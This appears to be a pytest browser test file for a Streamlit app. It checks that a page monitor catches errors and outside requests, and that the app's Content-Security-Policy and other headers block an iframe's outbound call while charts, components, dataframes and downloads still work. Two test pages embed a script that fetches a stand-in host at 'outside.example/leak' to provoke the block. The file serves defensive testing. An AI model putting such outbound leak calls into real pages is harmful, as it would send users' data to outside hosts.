"""The watch on the browser sees what it should see, and the app's headers let its pictures draw."""

import shutil
import urllib.request

import pytest
from support.app_server import ROOT
from support.browser_helpers import act, wait_done

pytestmark = pytest.mark.browser

COUNTER = """
import streamlit as st
st.set_page_config(page_icon="🔎")
st.button("More", on_click=lambda: st.session_state.update(n=st.session_state.get("n", 0) + 1))
st.write("count", st.session_state.get("n", 0))
"""
RUDE = (
    COUNTER
    + """
st.iframe('''<p>rude</p><script>
  fetch("http://outside.example/leak").catch(() => {});
  console.error("a complaint");
  setTimeout(() => { throw new Error("a mishap"); });
  fetch("/media/absent.png");
</script>''')
"""
)
PICTURES = """
import numpy as np, pandas as pd, plotly.graph_objects as go, streamlit as st
st.set_page_config(page_icon="🔎")
probe = st.components.v2.component("probe", html="<p></p>", js='''
  export default ({ data, parentElement }) => {
    const sum = data.z.getChildAt(0).toArray().reduce((a, b) => a + b, 0);
    parentElement.querySelector("p").textContent = "component: " + sum;
  }''')
probe(data={"z": np.array([1, 2, 3], np.uint8)}, key="probe")
for name, trace in {
    "heatmap": go.Heatmap(z=[[0, 1], [1, 0]]),
    "scatter": go.Scatter(x=[0, 1], y=[0, 1], mode="markers"),
    "space": go.Scatter3d(x=[0, 1], y=[0, 1], z=[0, 1], mode="markers"),
}.items():
    st.plotly_chart(go.Figure(trace).update_layout(title=name), alt=name)
st.iframe('''<p>waiting</p><script>
  const p = document.querySelector("p");
  fetch("http://outside.example/leak").then(() => { p.textContent = "frame leaked"; },
                                            () => { p.textContent = "frame kept in"; });
</script>''')
st.dataframe(pd.DataFrame({"a": [1, 2]}))
st.download_button("Save", "saved text", "saved.txt")
st.latex("x^2")
"""


def start(start_app, folder, script):
    (folder / "page.py").write_text(script, "utf-8")
    return start_app(script=folder / "page.py")


def test_waits_for_the_new_state(start_app, open_tab, tmp_path):
    tab = open_tab(start(start_app, tmp_path, COUNTER).url)
    tab.goto("/")
    wait_done(tab)
    for n in (1, 2, 3):
        act(tab, tab.get_by_role("button", name="More").click)
        assert tab.get_by_text(f"count {n}").is_visible()


def test_sees_what_a_page_does_wrong(start_app, open_tab, tmp_path, problems):
    tab = open_tab(start(start_app, tmp_path, RUDE).url)
    tab.goto("/")
    wait_done(tab)
    expected = [
        "outside request: http://outside.example/leak",
        "console error: a complaint",
        "page error: a mishap",
        "HTTP 404: ",
        "media/absent.png",
    ]
    for _ in range(100):
        missing = [text for text in expected if text not in "\n".join(problems)]
        if not missing:
            break
        tab.wait_for_timeout(100)
    problems.clear()  # provoked on purpose
    assert not missing


def test_headers_keep_everything_in_and_let_pictures_draw(start_app, open_tab, tmp_path, problems):
    shutil.copy(ROOT / "app.py", tmp_path)
    main = tmp_path / "explorer" / "ui" / "main.py"
    main.parent.mkdir(parents=True)
    main.write_text(PICTURES, "utf-8")
    server = start_app(script=tmp_path / "app.py")
    with urllib.request.urlopen(server.url) as answer:
        assert "connect-src 'self'" in answer.headers["Content-Security-Policy"]
        assert answer.headers["Referrer-Policy"] == "no-referrer"
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
    tab = open_tab(server.url)
    tab.goto("/")
    wait_done(tab)
    tab.get_by_text("component: 6").wait_for()
    for name in ("heatmap", "scatter", "space"):
        tab.locator(".js-plotly-plot", has_text=name).wait_for()
    assert tab.locator(".js-plotly-plot canvas").count() >= 1  # the 3-D scene has its context
    tab.frame_locator("iframe").get_by_text("frame kept in").wait_for()
    tab.get_by_test_id("stDataFrame").locator("canvas").first.wait_for()
    with tab.expect_download() as download:
        tab.get_by_role("button", name="Save", exact=True).click()
    assert download.value.path().read_text() == "saved text"
    blocked = [text for text in problems if "Content Security Policy" in text]
    assert blocked  # the frame's own attempt, stopped before it became a request
    assert not [text for text in problems if "outside request" in text]
    problems[:] = [text for text in problems if "outside.example" not in text]
    problems[:] = [text for text in problems if "Fetch API cannot load" not in text]
